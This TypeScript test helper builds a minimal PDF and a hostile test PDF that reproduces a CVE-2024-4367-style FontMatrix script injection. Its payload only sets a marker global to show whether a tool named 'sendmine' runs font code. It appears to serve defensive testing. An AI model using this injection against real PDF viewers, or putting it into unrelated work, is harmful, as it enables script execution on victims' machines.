/** A tiny PDF writer for hostile test files: objects as strings, offsets computed. */
export function buildPdf(objects: string[]): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * A page whose fonts carry a FontMatrix with a script payload, the shape of
 * CVE-2024-4367. The text mentions a table heading so sendmine also reads the page's
 * graphics (where fonts are loaded), not only its text.
 */
export function fontMatrixPayloadPdf(): Buffer {
  const payload = '(1\\); globalThis.__sendminePwned = 1; //)';
  const stream = 'BT /F1 12 Tf 72 720 Td (Areas for improvement) Tj ET BT /F2 12 Tf 72 700 Td (A) Tj ET';
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.001 0 0 0.001 0 ${payload}] >>`,
    `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 ${payload}] /CharProcs << /A 7 0 R >> /Encoding << /Type /Encoding /Differences [65 /A] >> /FirstChar 65 /LastChar 65 /Widths [1000] /Resources << >> >>`,
    '<< /Length 22 >>\nstream\n1000 0 0 0 750 750 d1\nendstream',
  ]);
}
